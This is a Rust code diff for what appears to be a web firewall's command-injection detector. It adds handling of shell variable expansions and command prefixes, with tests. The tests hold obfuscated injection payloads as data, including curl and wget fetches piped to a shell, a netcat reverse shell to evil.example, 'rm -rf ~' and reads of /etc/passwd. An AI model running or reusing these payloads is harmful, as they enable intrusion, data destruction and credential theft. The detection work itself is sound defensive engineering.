@@ -24,11 +24,15 @@ pub(crate) fn check(v: &[u8], shape: Shape, full: bool, level: u8) -> Option<Hit
     let plain_token =
         !shape.whitespace() && !shape.has(const { Shape::mask(b"/\\'\"^{}()[]<>!~*?%") }) && !shape.control();
     let found = if separated {
-        commands(v, level)
+        let vars = match shape.has(const { Shape::mask(b"=") }) && shape.has(const { Shape::mask(b"$%") }) {
+            true => Vars::of(v),
+            false => Vars::NONE,
+        };
+        commands(v, level, &vars)
     } else if plain_token && !lone_admin_tool(v) {
         None
     } else {
-        command_at(v, 0, 0, true, level)
+        command_at(v, 0, 0, true, level, &Vars::NONE)
     };
     found
         .or_else(|| if shape.whitespace() || shape.has(const { Shape::mask(b"/") }) { batch(v) } else { None })
@@ -355,7 +359,7 @@ fn backticks(v: &[u8], open: usize, level: u8) -> Option<Hit> {
     if level < 2 && fence_line(v, run_start).is_some() {
         return None;
     }
-    let (word, end) = read_command(inner, 0);
+    let (word, end) = read_command(inner, 0, &Vars::NONE);
     let Some(kind) = classify(word.text()) else { return hit(3, open, close + 1, level) };
     let glued = open > 0 && is_word(v[open - 1]);
     // From the backticks outwards: blanks at the value's ends are not read again for each pair.
@@ -377,7 +381,7 @@ fn backticks(v: &[u8], open: usize, level: u8) -> Option<Hit> {
 fn prose_quote(v: &[u8], open: usize) -> Option<usize> {
     let close = v[open + 1..].iter().position(|&b| b == b'`').map(|c| open + 1 + c)?;
     let inner = &v[open + 1..close];
-    let (word, end) = read_command(inner, 0);
+    let (word, end) = read_command(inner, 0, &Vars::NONE);
     let prose = (open == 0 || v[open - 1].is_ascii_whitespace() || v[open - 1] == b'(')
         && v.get(close + 1).is_none_or(|b| b.is_ascii_whitespace() || matches!(b, b'.' | b',' | b'!' | b'?' | b':'))
         && !word.evasive
@@ -445,6 +449,90 @@ fn fence_line(v: &[u8], i: usize) -> Option<usize> {
     tag.iter().all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'#' | b'.' | b'_')).then_some(i + end)
 }
 
+/// The variables a value assigns where a command could start (`a=id`, `x=i;y=d`, cmd's
+/// `set a=whoami`): a command word made of their expansions (`$a`, `$x$y`, `%a%`) runs what
+/// they hold. The first few only: an attack needs one or two, and each lookup is a short scan.
+struct Vars<'a> {
+    found: [(&'a [u8], &'a [u8]); MAX_VARS],
+    len: usize,
+}
+
+const MAX_VARS: usize = 8;
+
+impl<'a> Vars<'a> {
+    const NONE: Vars<'static> = Vars { found: [(b"", b""); MAX_VARS], len: 0 };
+
+    /// One pass over `v`: a name (`[A-Za-z_][A-Za-z0-9_]*`) and `=` at a word's start after the
+    /// value's start, a separator or a blank (not after `$`, as PHP's and Perl's `$a=1` are),
+    /// its value up to a blank or a separator, or inside the quotes it opens.
+    fn of(v: &'a [u8]) -> Vars<'a> {
+        let mut vars = Vars { found: [(b"", b""); MAX_VARS], len: 0 };
+        let mut i = 0;
+        while i < v.len() && vars.len < MAX_VARS {
+            let starts_word =
+                i == 0 || matches!(v[i - 1], b';' | b'&' | b'|' | b'\n' | b'\r' | b'`' | b'(' | b' ' | b'\t');
+            if !starts_word || !(v[i].is_ascii_alphabetic() || v[i] == b'_') {
+                i += 1;
+                continue;
+            }
+            let name_len = v[i..].iter().take_while(|&&b| is_word(b)).count();
+            let after = i + name_len;
+            if v.get(after) != Some(&b'=') {
+                i = after;
+                continue;
+            }
+            let mut start = after + 1;
+            let end = match v.get(start) {
+                Some(&q @ (b'\'' | b'"')) => {
+                    start += 1;
+                    v[start..].iter().position(|&b| b == q).map_or(v.len(), |p| start + p)
+                }
+                _ => v[start..]
+                    .iter()
+                    .position(|&b| b.is_ascii_whitespace() || matches!(b, b';' | b'&' | b'|' | b'`' | b')'))
+                    .map_or(v.len(), |p| start + p),
+            };
+            vars.found[vars.len] = (&v[i..after], &v[start..end]);
+            vars.len += 1;
+            i = end.max(after + 1);
+        }
+        vars
+    }
+
+    /// What the expansion at `i` (`$0`, `${0}`, `$name`, `${name}`, `%name%`) stands for, and
+    /// where it ends; `None` when it is no expansion or names nothing the value assigned.
+    fn expansion(&self, v: &[u8], i: usize) -> Option<(&'a [u8], usize)> {
+        let rest = &v[i + 1..];
+        let (name, end) = match (v[i], rest.first()) {
+            (b'$', Some(b'{')) => {
+                let close = rest.iter().position(|&b| b == b'}')?;
+                (&rest[1..close], i + 2 + close)
+            }
+            (b'$', Some(b'0')) => (&rest[..1], i + 2),
+            (b'%', _) => {
+                let close = rest.iter().take(32).position(|&b| b == b'%')?;
+                (&rest[..close], i + 2 + close)
+            }
+            _ => {
+                let len = rest.iter().take_while(|&&b| is_word(b)).count();
+                (&rest[..len], i + 1 + len)
+            }
+        };
+        if name.is_empty() || !name.iter().all(|&b| is_word(b)) {
+            return None;
+        }
+        if v[i] == b'$' && name == b"0" {
+            return Some((b"sh", end));
+        }
+        if v[i] == b'%' && name.eq_ignore_ascii_case(b"comspec") {
+            return Some((b"cmd", end));
+        }
+        // The last assignment of that name (cmd's names ignore case, a shell's do not).
+        let same = |n: &[u8]| if v[i] == b'%' { n.eq_ignore_ascii_case(name) } else { n == name };
+        self.found[..self.len].iter().rev().find(|(n, _)| same(n)).map(|(_, value)| (*value, end))
+    }
+}
+
 /// A command word as a shell would see it once evasions are undone, lower-cased.
 struct Word {
     buf: [u8; 40],
@@ -453,9 +541,22 @@ struct Word {
     evasive: bool,
     /// It was reached through a path (`/bin/cat`).
     pathed: bool,
+    /// Made of expansions alone (`$0`, `$a$b`, `%a%`).
+    expanded: bool,
+    /// Written with a capital (`NC`, `Curl`): no Unix command is.
+    capital: bool,
 }
 
 impl Word {
+    /// Adds a byte while there is room (a longer word is no command anyway).
+    fn push(&mut self, b: u8) {
+        self.pathed |= b == b'/';
+        if self.len < self.buf.len() {
+            self.buf[self.len] = b;
+            self.len += 1;
+        }
+    }
+
     fn text(&self) -> &[u8] {
         let w = &self.buf[..self.len];
         let base = w.iter().rposition(|&b| b == b'/' || b == b'\\').map_or(w, |p| &w[p + 1..]);
@@ -463,11 +564,20 @@ impl Word {
     }
 }
 
-/// Reads a command word at `i` (after blanks); returns it and where it ended.
-fn read_command(v: &[u8], mut i: usize) -> (Word, usize) {
-    let mut w = Word { buf: [0; 40], len: 0, evasive: false, pathed: false };
+/// Reads a command word at `i` (after blanks); returns it and where it ended. Expansions in it
+/// stand for what a shell puts there: `$0` for the shell, a variable for what `vars` says the
+/// value assigned it (`a=id;$a`, `set a=whoami& call %a%`).
+fn read_command(v: &[u8], mut i: usize, vars: &Vars<'_>) -> (Word, usize) {
+    let mut w = Word { buf: [0; 40], len: 0, evasive: false, pathed: false, expanded: false, capital: false };
     while i < v.len() && matches!(v[i], b' ' | b'\t' | b'{' | b'(' | b'\'' | b'"' | 0x0b | 0x0c) {
         i += 1;
+    }
+    // A Windows drive (`c:\windows\system32\whoami.exe`): its backslashes are the path's.
+    let drive = v.get(i).is_some_and(u8::is_ascii_alphabetic)
+        && v.get(i + 1) == Some(&b':')
+        && matches!(v.get(i + 2), Some(b'\\' | b'/'));
+    if drive {
+        i += 2;
     }
     loop {
         if i >= v.len() {
@@ -475,6 +585,10 @@ fn read_command(v: &[u8], mut i: usize) -> (Word, usize) {
         }
         let b = v[i];
         match b {
+            b'\\' if drive => {
+                w.push(b'/');
+                i += 1;
+            }
             b'\'' | b'"' | b'\\' | b'^' => {
                 // Inside a word (`c''at`, `w\hoami`, `w^hoami`) these vanish in the shell; a
                 // quote closing the word (`"WRITE" DESIGN`) is just a quote.
@@ -507,14 +621,23 @@ fn read_command(v: &[u8], mut i: usize) -> (Word, usize) {
                 i += 2;
             }
             b'/' => {
-                w.pathed = true;
-                if w.len < w.buf.len() {
-                    w.buf[w.len] = b'/';
-                    w.len += 1;
-                }
+                w.push(b'/');
                 i += 1;
             }
+            b'$' | b'%' => match vars.expansion(v, i) {
+                Some((value, end)) => {
+                    w.expanded = w.len == 0 || w.expanded;
+                    w.evasive = true;
+                    for &c in value.iter().take_while(|&&c| c.is_ascii_alphanumeric() || b"-_.+/".contains(&c)) {
+                        w.push(c.to_ascii_lowercase());
+                    }
+                    i = end;
+                }
+                None => break,
+            },
             _ if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'+') => {
+                w.expanded = false;
+                w.capital |= b.is_ascii_uppercase();
                 if w.len < w.buf.len() {
                     w.buf[w.len] = b.to_ascii_lowercase();
                     w.len += 1;
@@ -971,8 +1094,8 @@ fn comment_end(v: &[u8], open: usize) -> Option<usize> {
 }
 
 /// Known commands where a shell would start one.
-fn commands(v: &[u8], level: u8) -> Option<Hit> {
-    if let Some(h) = command_at(v, 0, 0, true, level) {
+fn commands(v: &[u8], level: u8, vars: &Vars<'_>) -> Option<Hit> {
+    if let Some(h) = command_at(v, 0, 0, true, level, vars) {
         return Some(h);
     }
     static SEPARATORS: [bool; 256] = byte_set(b";\n\r`|&$");
@@ -1001,7 +1124,7 @@ fn commands(v: &[u8], level: u8) -> Option<Hit> {
                 continue;
             }
         }
-        if let Some(h) = command_at(v, i, separator_len, false, level) {
+        if let Some(h) = command_at(v, i, separator_len, false, level, vars) {
             return Some(h);
         }
         // A run of backticks is read whole from its first (doubled ones are an evasion the
@@ -1017,34 +1140,48 @@ fn commands(v: &[u8], level: u8) -> Option<Hit> {
 }
 
 #[inline(never)]
-fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: u8) -> Option<Hit> {
-    let (word, end) = read_command(v, at + separator_len);
+fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: u8, vars: &Vars<'_>) -> Option<Hit> {
+    let (word, end) = read_command(v, at + separator_len, vars);
     let mut text = word.text();
     let mut kind = classify(text);
-    // `bcdboot/r`: a Windows switch glued to the command.
+    // `bcdboot/r`: a Windows switch glued to the command (no Windows command is one letter:
+    // `w/o onions` is an abbreviation, not Unix's `w`).
     if kind.is_none() && !word.buf[..word.len].starts_with(b"/") {
-        if let Some(slash) = word.buf[..word.len].iter().position(|&b| b == b'/') {
+        if let Some(slash) = word.buf[..word.len].iter().position(|&b| b == b'/').filter(|&at| at > 1) {
             text = &word.buf[..slash];
             kind = classify(text);
         }
     }
-    let kind = kind?;
     let mut next = follow(v, end);
-    if next == Follow::Word && known_subcommand(text, &v[end..]) {
-        next = Follow::ShellArgument;
-    }
-    // `time sh -c id`, `nohup curl ...`: a prefix runs the command after it.
-    if next == Follow::Word && is_prefix(text) {
-        let (inner, inner_end) = read_command(v, end);
+    // `time sh -c id`, `nohup curl ...`: a prefix runs the command after it; a shell's own
+    // (`exec id`, `command id`, cmd's `call %a%`) whatever the command is.
+    let options = next == Follow::ShellArgument && runs_next(text);
+    if (next == Follow::Word || options) && is_prefix(text) {
+        // `command -p id`, `sudo -u root id`: the prefix's own options first.
+        let (inner, inner_end) = read_command(v, if options { after_options(v, end) } else { end }, vars);
         if let Some(inner_kind) = classify(inner.text()) {
             let inner_next = follow(v, inner_end);
-            if inner_kind == Kind::Rare || inner_next == Follow::ShellArgument {
+            let runs = inner_kind == Kind::Rare
+                || inner_next == Follow::ShellArgument
+                || (inner.evasive && inner.len > 1)
+                || (!at_start && runs_next(text) && matches!(inner_next, Follow::End | Follow::Operator));
+            if runs {
                 return hit(1, at, (inner_end + 24).min(v.len()), level);
             }
         }
     }
+    let kind = kind?;
+    if next == Follow::Word && known_subcommand(text, &v[end..]) {
+        next = Follow::ShellArgument;
+    }
+    // `Type 'yes' to confirm`: a quoted plain word in a sentence, not a command's argument.
+    if at_start && kind == Kind::Common && next == Follow::ShellArgument && quoted_in_prose(v, end) {
+        next = Follow::Word;
+    }
     let lvl = match (at_start, kind, next) {
         (_, _, Follow::Other) => return None,
+        // `; $0 shipping`: a price, not the shell (`;$0 -c id`, `|$0` are).
+        (_, _, Follow::Word) if word.expanded && !argument_like(v, end) => 2,
         (_, _, _) if word.evasive && word.len > 1 => 1,
         (false, Kind::Rare, _) => 1,
         // `; sleep 5`, `| host evil.com`: a command line of its own after the separator, with
@@ -1069,7 +1206,10 @@ fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: 
         // `wget evil.com/x`, `nc 10.0.0.1 4444`: an argument a command takes, not an English word
         // (`Curl up with a good book`, `wget is a command line tool`: paranoia 3).
         (true, Kind::Rare, Follow::Word) if !is_interpreter(text) && !is_language(text) => {
-            if argument_like(v, end) || short_line(v) {
+            // `NC 27601`, `NC State`: Unix runs no `NC`; `dig deeper`, `env vars`: words of
+            // English first, so only an argument makes them a command line.
+            let prose = word.capital || everyday_word(text);
+            if argument_like(v, end) && !word.capital || short_line(v) && !prose {
                 1
             } else {
                 2
@@ -1117,9 +1257,52 @@ fn is_probe(w: &[u8]) -> bool {
     matches!(w, b"sleep" | b"host" | b"ping")
 }
 
+/// Command names that open everyday sentences and notes, or are everyday abbreviations
+/// (`dig deeper`, `curl bar`, `env vars`, `od green`, `wc 2026`, `nl team`).
+fn everyday_word(w: &[u8]) -> bool {
+    matches!(w, b"dig" | b"curl" | b"env" | b"nl" | b"od" | b"wc" | b"nc" | b"unzip" | b"passwd")
+}
+
 /// At most three words: a command line, not a sentence.
 fn short_line(v: &[u8]) -> bool {
     v.split(u8::is_ascii_whitespace).filter(|w| !w.is_empty()).count() <= 3
+}
+
+/// Prefixes of [`is_prefix`] that are a shell's and no word of English: what follows them runs,
+/// even a command with nothing after it (`;exec id`).
+fn runs_next(w: &[u8]) -> bool {
+    matches!(
+        w,
+        b"exec" | b"command" | b"builtin" | b"eval" | b"sudo" | b"doas" | b"nohup" | b"xargs" | b"busybox" | b"call"
+    )
+}
+
+/// Where the words after `i` that are options (`-p`, `-u root` is read as `-u` and `root`) end.
+fn after_options(v: &[u8], mut i: usize) -> usize {
+    loop {
+        let word = i + v[i..].iter().take_while(|&&b| b == b' ' || b == b'\t').count();
+        if v.get(word) != Some(&b'-') {
+            return i;
+        }
+        i = word + v[word..].iter().take_while(|b| !b.is_ascii_whitespace()).count();
+    }
+}
+
+/// After a command word at `i`, a quoted plain word (letters, digits, blanks) followed by more
+/// of the sentence: `Type 'yes' to confirm`, `Sort 'asc' or 'desc'`.
+fn quoted_in_prose(v: &[u8], i: usize) -> bool {
+    let rest = v[i..].trim_ascii_start();
+    let Some(&quote @ (b'\'' | b'"')) = rest.first() else { return false };
+    let Some(close) = rest[1..].iter().position(|&b| b == quote) else { return false };
+    let inner = &rest[1..1 + close];
+    let after = &rest[close + 2..];
+    !inner.is_empty()
+        && inner.iter().all(|&b| b.is_ascii_alphanumeric() || b == b' ')
+        && after.first().is_some_and(|&b| b == b' ')
+        && after
+            .trim_ascii_start()
+            .first()
+            .is_some_and(|b| !matches!(b, b';' | b'|' | b'&' | b'<' | b'>' | b'`' | b'$'))
 }
 
 /// Commands that run the command after them.
@@ -1137,6 +1320,8 @@ fn is_prefix(w: &[u8]) -> bool {
             | b"xargs"
             | b"command"
             | b"builtin"
+            | b"eval"
+            | b"call"
             | b"busybox"
             | b"doas"
             | b"setsid"
@@ -1633,6 +1818,87 @@ mod tests {
         }
         // A command opening a sentence of plain words counts from paranoia 2.
         assert!(!cmdi("wget internal x y z", 1) && cmdi("wget internal x y z", 2));
+    }
+
+    /// A command word a shell builds from variables (`$0` is the shell itself, `a=id;$a` runs
+    /// `id`), or runs through its own prefixes, is the command it builds (tester l1: each of
+    /// these ran `id` or worse under dash and bash, and passed at every level).
+    #[test]
+    fn commands_built_from_variables_or_run_through_a_prefix_are_caught() {
+        for s in [
+            "x;$0 -c id",
+            "x;${0} -c id",
+            "x;\"$0\" -c id",
+            "x|$0 -c id",
+            "x&&$0 -c 'id'",
+            "x;$0 -c \"wh\"\"oami\"",
+            "x;a=id;$a",
+            "x;x=i;y=d;$x$y",
+            "x;a=cat;b=/et;c=c/pas;d=swd;$a $b$c$d",
+            "x;a=curl;$a -s evil.example|$0",
+            "x;a=rm;$a -rf ~",
+            "x;a=wget;$a -qO- evil.example|$0",
+            "x;a=nc;$a -e $0 evil.example 4444",
+            "x;a=\"id\";${a}",
+            "x;exec id",
+            "x;command id",
+            "x;command -p id",
+            "x;eval id",
+            "x `$0 -c id`",
+            "& set a=whoami& call %a%",
+            "& %COMSPEC% /c whoami",
+            "& c:\\windows\\system32\\whoami.exe",
+        ] {
+            assert!(cmdi(s, 1), "{s}");
+        }
+        for s in [
+            // Prices and templates, not expansions a shell runs.
+            "Subtotal $25; $0 shipping",
+            "Total: $10; $5 off next time",
+            "PHP: $a=1; $a++",
+            "50% off; 20% more",
+            "a=1; see $b",
+            "C:\\Users\\me\\report.docx; C:\\Program Files\\Git",
+            "Great service; command center was helpful",
+        ] {
+            assert!(!cmdi(s, 1), "{s}");
+        }
+    }
+
+    /// Everyday text that opens with a word that is also a command (tester l1: each was a 403
+    /// at paranoia 1).
+    #[test]
+    fn a_sentence_opening_with_a_command_name_passes() {
+        for s in [
+            "w/ cheese",
+            "w/o onions",
+            "burger w/ fries",
+            "Type 'yes' to confirm",
+            "Sort 'asc' or 'desc'",
+            "Set 'a' = 'b'",
+            "NC 27601",
+            "NC State",
+            "dig deeper",
+            "curl bar",
+            "env vars",
+            "passwd reset",
+            "unzip the bag",
+            "nl team",
+            "od green",
+        ] {
+            assert!(!cmdi(s, 1), "{s}");
+        }
+        // What attacks at a value's start look like still counts.
+        for s in [
+            "type 'C:\\boot.ini'",
+            "sort '/etc/passwd'",
+            "dir/s c:\\",
+            "nc 10.0.0.1 4444",
+            "curl evil.example",
+            "ls foo bar",
+        ] {
+            assert!(cmdi(s, 1), "{s}");
+        }
     }
 
     #[test]
